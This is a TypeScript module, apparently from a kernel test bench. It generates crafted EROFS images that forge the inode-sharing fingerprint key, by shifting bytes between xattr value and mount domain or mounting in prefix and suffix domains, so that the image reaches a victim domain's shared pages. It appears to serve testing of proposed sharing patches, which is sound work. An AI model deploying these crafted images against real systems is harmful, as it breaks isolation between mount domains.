import { readFile } from "node:fs/promises";
import nodePath from "node:path";
import { BenchError } from "../util/errors.js";
import { hex, readLayout } from "./erofsLayout.js";
import { fingerprintEntry, fingerprintKey, type ImageFormat } from "./fingerprintKey.js";
import { EditSet, sealEdits, writeEdited, type Edit } from "./imageEdits.js";
import { COMPAT_ISHARE_XATTRS, ISHARE_BYTE, SB_FIELD, SB_OFFSET } from "./superblock.js";
import { INCOMPAT_ISHARE_KEY } from "./packedKey.js";

/**
 * Images crafted against the sharing key's layout. Every series builds the
 * key a shared inode is found by from the fingerprint xattr's value and the
 * mount's domain: v8 and v18 join them (value then domain, one length in
 * front), mainline puts the domain first and a NUL after it. A joined key
 * is ambiguous: the same bytes split differently between value and domain
 * are the same key, so an image that controls its fingerprint reaches
 * another domain's pages. The split cases move bytes across the boundary;
 * the domain cases mount an exact copy of the victim's fingerprint in a
 * domain that is a prefix or a suffix of the victim's (a key compared on
 * the shorter length would match).
 */

export interface CraftedCase {
  name: string;
  what: string;
  /** The domain the victim (image A) is mounted in. */
  victimDomain: string;
  /** The domain the crafted image is mounted in, as bytes (hex): it may hold bytes of a fingerprint. */
  domainHex: string;
  /** "forged" when the case mounts the forged image itself in another domain; else its own image. */
  image: "forged" | "own";
  edits: Edit[];
}

/** Bytes a mount option string cannot carry: NUL ends it and the comma separates options. */
const unmountable = (b: number) => b === 0x00 || b === 0x2c;

/** The size an inline xattr entry takes: header, name and value, padded to 4 bytes. */
const entrySpan = (nameLen: number, valueSize: number) => (4 + nameLen + valueSize + 3) & ~3;

/**
 * The crafted cases against a victim (A's `path`, mounted in `victimDomain`)
 * made from a target image (B, whose file at `path` has the same size and
 * other content). A value can only change length inside its entry's padding
 * (the image is edited in place); lengths that do not fit are left out, as
 * are splits that would put a NUL or a comma into a mount option.
 */
export function craftedCases(
  target: Uint8Array,
  donor: Uint8Array,
  path: string,
  format: ImageFormat,
  victimDomain: string,
): CraftedCase[] {
  const t = fingerprintEntry(target, path, fingerprintKey(target, format));
  const d = fingerprintEntry(donor, path, fingerprintKey(donor, format));
  if (t.inode.size !== d.inode.size)
    throw new BenchError(`${path}: ${t.inode.size} bytes in B, ${d.inode.size} in A: the kernel would not share them`);
  const value = Array.from(d.entry.value);
  const domain = Array.from(Buffer.from(victimDomain, "latin1"));
  const span = entrySpan(t.entry.nameLen, t.entry.valueSize);
  const out: CraftedCase[] = [];
  const withValue = (bytes: number[]): Edit[] => {
    const set = new EditSet(target);
    set.u16(t.entry.offset + 2, bytes.length);
    set.set(t.entry.valueOffset, bytes);
    // the bytes the value gave up stay zero: the entry reads the same whatever the padding held
    const freed = t.entry.valueSize - bytes.length;
    if (freed > 0) set.set(t.entry.valueOffset + bytes.length, new Array(freed).fill(0));
    sealEdits(target, set);
    return set.edits;
  };
  for (const k of [1, 2, 3]) {
    if (entrySpan(t.entry.nameLen, value.length + k) === span && k < domain.length) {
      out.push({
        name: `value-takes-${k}`,
        what: `fingerprint := A's value and the first ${k} byte(s) of A's domain ("${victimDomain.slice(0, k)}"); mounted in the rest of that domain ("${victimDomain.slice(k)}")`,
        victimDomain,
        domainHex: hex(Uint8Array.from(domain.slice(k))),
        image: "own",
        edits: withValue([...value, ...domain.slice(0, k)]),
      });
    }
    const tail = value.slice(value.length - k);
    if (entrySpan(t.entry.nameLen, value.length - k) === span && !tail.some(unmountable)) {
      out.push({
        name: `domain-takes-${k}`,
        what: `fingerprint := A's value less its last ${k} byte(s); mounted in those bytes followed by A's domain`,
        victimDomain,
        domainHex: hex(Uint8Array.from([...tail, ...domain])),
        image: "own",
        edits: withValue(value.slice(0, value.length - k)),
      });
    }
  }
  const exact = (name: string, dom: string, what: string): CraftedCase => ({
    name,
    what,
    victimDomain,
    domainHex: hex(Uint8Array.from(Buffer.from(dom, "latin1"))),
    image: "forged",
    edits: [],
  });
  if (domain.length > 1) {
    out.push(
      exact(
        "domain-prefix",
        victimDomain.slice(0, -1),
        `A's exact fingerprint, mounted in "${victimDomain.slice(0, -1)}" (a prefix of A's domain)`,
      ),
      exact(
        "domain-suffix",
        victimDomain.slice(1),
        `A's exact fingerprint, mounted in "${victimDomain.slice(1)}" (a suffix of A's domain)`,
      ),
    );
  }
  out.push(
    exact(
      "domain-longer",
      `${victimDomain}${victimDomain}`,
      `A's exact fingerprint, mounted in A's domain twice over (A's domain is its prefix)`,
    ),
  );
  return out;
}

/** Writes each crafted case that has its own image into `dir`; `file` names it (relative to `dir`), null for a case on the forged image. */
export async function writeCraftedImages(
  imageB: string,
  imageA: string,
  path: string,
  format: ImageFormat,
  victimDomain: string,
  dir: string,
): Promise<Array<CraftedCase & { file: string | null }>> {
  const cases = craftedCases(
    new Uint8Array(await readFile(imageB)),
    new Uint8Array(await readFile(imageA)),
    path,
    format,
    victimDomain,
  );
  const out: Array<CraftedCase & { file: string | null }> = [];
  for (const c of cases) {
    const file = c.image === "own" ? `crafted-${c.name}.erofs` : null;
    if (file) await writeEdited(imageB, nodePath.join(dir, file), c.edits);
    out.push({ ...c, file });
  }
  return out;
}

/**
 * The edits that take away an image's fingerprint key the way its series
 * reads it (mainline's COMPAT_ISHARE_XATTRS and prefix id, v8's
 * ishare_key_start, RFC v7's INCOMPAT_ISHARE_KEY): a well-formed image with
 * no fingerprints, as mkfs.erofs writes one without --xattr-inode-digest.
 */
export function keylessEdits(image: Uint8Array, format: ImageFormat): Edit[] {
  const layout = readLayout(image);
  const set = new EditSet(image);
  switch (format) {
    case "xattr-inode-digest":
      set.u32(SB_OFFSET + SB_FIELD.featureCompat, layout.featureCompat & ~COMPAT_ISHARE_XATTRS);
      set.set(SB_OFFSET + ISHARE_BYTE, [0]);
      break;
    case "ishare-key-long-prefix":
      set.set(SB_OFFSET + ISHARE_BYTE, [0]);
      break;
    case "ishare-key-packed-name":
      set.u32(SB_OFFSET + SB_FIELD.featureIncompat, layout.featureIncompat & ~INCOMPAT_ISHARE_KEY);
      break;
  }
  sealEdits(image, set);
  return set.edits;
}
